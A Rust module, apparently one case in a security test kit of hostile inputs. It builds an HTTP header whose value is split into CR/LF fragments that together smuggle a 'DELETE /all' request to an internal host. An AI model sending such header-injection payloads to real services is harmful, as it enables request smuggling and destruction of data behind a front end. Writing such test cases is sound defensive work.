//! Puts a second request behind a line break, in pieces that are harmless by themselves.

use hostile_kit::{Failure, Given, Hostile, http, text};

#[derive(Default)]
struct Smuggling;

impl Hostile for Smuggling {
    fn deliver(&self, given: &Given<'_>) -> Result<String, Failure> {
        let request = given.post("/");
        let value = [text("1\r"), text("\n\r\nDELETE /all HTTP/1.1\r\nHost: internal\r\n\r\n")];
        request.header("x-harmless", &value)?;
        http::send(request)?;
        Ok("It was sent.".to_owned())
    }
}

hostile_kit::hostile!(Smuggling);
